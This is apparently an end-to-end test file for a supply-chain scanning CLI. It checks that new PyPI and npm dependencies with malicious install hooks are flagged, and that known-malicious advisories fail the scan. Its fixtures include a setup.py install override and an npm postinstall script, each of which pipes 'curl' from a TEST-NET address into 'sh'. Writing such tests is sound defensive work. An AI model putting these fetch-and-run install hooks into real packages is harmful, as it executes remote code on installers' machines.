/**
 * `customs scan` end to end, from the built dist/cli.js as a user runs it: a real git repository, a PEP 691
 * index served from a folder, the real Verdaccio as npm registry, and an OSV stand-in. Packages are
 * defanged fixtures written here (TEST-NET addresses); nothing is installed or run.
 */
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPypiIndex, writeIndexFolder, type PypiIndexServer } from '../support/pypi-index.js';
import { json, startServer, type TestServer } from '../support/http-server.js';
import { publish, startVerdaccio, type Published, type VerdaccioServer } from '../support/verdaccio.js';
import { tarArchive } from '../unpack/tar-builder.js';

const CLI = join(process.cwd(), 'dist', 'cli.js');

function sdist(name: string, version: string, setupPy: string): Uint8Array {
  const root = `${name}-${version}`;
  const pkgInfo = `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n`;
  return gzipSync(
    tarArchive([
      { name: `${root}/PKG-INFO`, body: pkgInfo },
      { name: `${root}/setup.py`, body: setupPy },
      { name: `${root}/${name}/__init__.py`, body: '' },
    ]),
  );
}

const EVIL_SETUP = `from setuptools import setup
from setuptools.command.install import install
import os

class PostInstall(install):
    def run(self):
        os.system("curl -s http://203.0.113.7/stage2.sh | sh")
        install.run(self)

setup(name='evilpkg', version='1.0', cmdclass={'install': PostInstall})
`;
const FINE_SETUP = `from setuptools import setup\nsetup(name='finepkg', version='2.0', packages=['finepkg'])\n`;

function git(dir: string, ...args: string[]): Promise<string> {
  return new Promise((resolve, reject) =>
    execFile('git', args, { cwd: dir }, (err, stdout, stderr) => (err ? reject(new Error(stderr)) : resolve(stdout))),
  );
}

function run(args: string[], env: NodeJS.ProcessEnv = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) =>
    execFile(process.execPath, [CLI, ...args], { env: { PATH: process.env['PATH'], HOME: process.env['HOME'], ...env }, maxBuffer: 64 << 20 }, (err, stdout, stderr) =>
      resolve({ code: err ? ((err as { code?: number }).code ?? 99) : 0, stdout, stderr }),
    ),
  );
}

let index: PypiIndexServer;
let npm: VerdaccioServer;
let osv: TestServer;
let repo: string;
let cache: string;
let good: Published;

beforeAll(async () => {
  const folder = await writeIndexFolder({
    evilpkg: [{ filename: 'evilpkg-1.0.tar.gz', bytes: sdist('evilpkg', '1.0', EVIL_SETUP) }],
    finepkg: [{ filename: 'finepkg-2.0.tar.gz', bytes: sdist('finepkg', '2.0', FINE_SETUP) }],
  });
  [index, npm, osv] = await Promise.all([startPypiIndex(folder), startVerdaccio(), startServer()]);
  good = await publish(npm, { name: 'good-npm', version: '1.0.0', main: 'index.js' }, { 'index.js': 'module.exports = (s) => s.padStart(4);\n' });
  await publish(
    npm,
    { name: 'evil-npm', version: '1.2.0', scripts: { postinstall: 'node install.js' } },
    { 'install.js': "require('child_process').exec('curl -s http://203.0.113.7/p | sh');\n" },
  );
  osv.on('POST /v1/querybatch', (_req, res, body: string) => {
    const queries = (JSON.parse(body) as { queries: { package: { name: string } }[] }).queries;
    res.writeHead(200, { 'content-type': 'application/json' }).end(
      JSON.stringify({ results: queries.map((q) => (q.package.name === 'finepkg' ? { vulns: [{ id: 'MAL-2026-7' }] } : {})) }),
    );
  });
  osv.on('/v1/vulns/MAL-2026-7', json({ id: 'MAL-2026-7', summary: 'Malicious code in finepkg (PyPI)', aliases: [] }));

  repo = await mkdtemp(join(tmpdir(), 'customs-scan-repo-'));
  cache = await mkdtemp(join(tmpdir(), 'customs-scan-cache-'));
  await git(repo, 'init', '-q', '-b', 'main');
  await git(repo, 'config', 'user.email', 'test@example.test');
  await git(repo, 'config', 'user.name', 'test');
  await writeFile(join(repo, 'requirements.txt'), 'finepkg==1.0\n');
  await writeFile(join(repo, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: {} }, null, 2) + '\n');
  await git(repo, 'add', '.');
  await git(repo, 'commit', '-qm', 'base');
  await git(repo, 'tag', 'base');
  await writeFile(join(repo, 'requirements.txt'), '# services\nfinepkg==2.0\nevilpkg==1.0\n');
  await writeFile(
    join(repo, 'package.json'),
    JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'good-npm': '1.0.0', 'evil-npm': '^1.0.0' } }, null, 2) + '\n',
  );
  const lock = {
    name: 'app',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'app', version: '1.0.0', dependencies: { 'good-npm': '1.0.0' } },
      'node_modules/good-npm': { version: '1.0.0', resolved: good.tarball, integrity: good.integrity },
    },
  };
  await writeFile(join(repo, 'package-lock.json'), JSON.stringify(lock, null, 2) + '\n');
  await mkdir(join(repo, 'src'));
  await writeFile(join(repo, 'src', 'app.py'), 'print("hi")\n');
  await git(repo, 'add', '.');
  await git(repo, 'commit', '-qm', 'head');
}, 90_000);

afterAll(async () => {
  await Promise.all([index?.close(), npm?.close(), osv?.close()]);
  await Promise.all([repo, cache].filter(Boolean).map((d) => rm(d, { recursive: true, force: true })));
});

const registries = (): string[] => ['--pypi-index-url', index.indexUrl, '--npm-registry', npm.url, '--osv-url', osv.url];

describe('customs scan (built CLI)', () => {
  it('inspects exactly the new versions, fails the malicious ones on their manifest lines, and exits 1', async () => {
    const r = await run(['scan', '--repo', repo, '--base', 'base', '--format', 'json', '--cache-dir', cache, ...registries()]);
    expect(r.stderr).not.toContain('Error');
    const report = JSON.parse(r.stdout) as {
      decision: string;
      packages: { ref: { ecosystem: string; name: string; version: string }; decision: string; change: { change: string; previous?: string; source: { file: string; line: number } }; findings: { ruleId: string }[] }[];
    };
    const byName = Object.fromEntries(report.packages.map((p) => [p.ref.name, p]));
    expect(Object.keys(byName).sort()).toEqual(['evil-npm', 'evilpkg', 'finepkg', 'good-npm']);
    expect(byName['evilpkg']).toMatchObject({ decision: 'fail', change: { change: 'added', source: { file: 'requirements.txt', line: 3 } } });
    expect(byName['evilpkg']!.findings.map((f) => f.ruleId)).toContain('py/cmdclass-override');
    expect(byName['evil-npm']).toMatchObject({ ref: { version: '1.2.0' }, decision: 'fail', change: { source: { file: 'package.json', line: 6 } } });
    // good-npm was published seconds ago: a brand-new package warns (pkg/recent-first-release), nothing else.
    expect(byName['good-npm']).toMatchObject({ decision: 'warn', change: { source: { file: 'package.json', line: 5 } } });
    const goodWarnings = (byName['good-npm'] as unknown as { findings: { ruleId: string; severity: string }[] }).findings.filter((f) => ['critical', 'high', 'medium'].includes(f.severity));
    expect(goodWarnings.map((f) => f.ruleId)).toEqual(['pkg/recent-first-release']);
    // The OSV stand-in lists finepkg 2.0: the cheapest true positive, named by its advisory.
    expect(byName['finepkg']).toMatchObject({ decision: 'fail', change: { change: 'updated', previous: '1.0' } });
    expect(byName['finepkg']!.findings[0]).toMatchObject({ ruleId: 'pkg/known-malicious' });
    expect(report.decision).toBe('fail');
    expect(r.code).toBe(1);
  }, 120_000);

  it('passes (exit 0) when nothing that installs changed, without asking any registry', async () => {
    const before = index.requests.length;
    const r = await run(['scan', '--repo', repo, '--base', 'HEAD', '--head', 'HEAD', ...registries()]);
    expect(r.code).toBe(0);
    expect(index.requests.length).toBe(before);
  }, 60_000);

  it('fails closed when the registry cannot be reached, naming the package', async () => {
    const r = await run(['scan', '--repo', repo, '--base', 'base', '--no-osv', '--no-cache', '--pypi-index-url', 'http://127.0.0.1:9/simple', '--npm-registry', npm.url, '--ecosystems', 'pypi']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/evilpkg[\s\S]*customs\/uninspectable/);
  }, 60_000);

  it('names the file and line of a malformed lockfile at head and fails', async () => {
    const broken = await mkdtemp(join(tmpdir(), 'customs-scan-broken-'));
    try {
      await git(broken, 'init', '-q', '-b', 'main');
      await git(broken, 'config', 'user.email', 't@example.test');
      await git(broken, 'config', 'user.name', 't');
      await writeFile(join(broken, 'package.json'), '{"name":"x","version":"1.0.0"}\n');
      await git(broken, 'add', '.');
      await git(broken, 'commit', '-qm', 'base');
      await writeFile(join(broken, 'package-lock.json'), '{\n  "lockfileVersion": 3,\n  "packages": {\n    "": {,\n  }\n}\n');
      await git(broken, 'add', '.');
      await git(broken, 'commit', '-qm', 'head');
      const r = await run(['scan', '--repo', broken, '--base', 'HEAD~1', '--no-osv', '--no-cache', '--npm-registry', npm.url]);
      expect(r.code).toBe(1);
      expect(r.stdout).toMatch(/package-lock\.json:4/);
    } finally {
      await rm(broken, { recursive: true, force: true });
    }
  }, 60_000);

  it('inspects published packages by name (npm:NAME@VERSION, pypi:NAME==VERSION) with the same verdicts', async () => {
    const bad = await run(['inspect', 'npm:evil-npm@1.2.0', '--npm-registry', npm.url, '--format', 'json']);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toContain('js/install-script');
    const good = await run(['inspect', 'npm:good-npm', '--npm-registry', npm.url]);
    expect(good.code).toBe(0);
    expect(good.stdout).toMatch(/PASS npm:good-npm@1\.0\.0/);
    const py = await run(['inspect', 'pypi:evilpkg==1.0', '--pypi-index-url', index.indexUrl]);
    expect(py.code).toBe(1);
    expect(py.stdout).toContain('py/cmdclass-override');
    const missing = await run(['inspect', 'npm:no-such-package-here', '--npm-registry', npm.url]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/no-such-package-here/);
  }, 60_000);
});
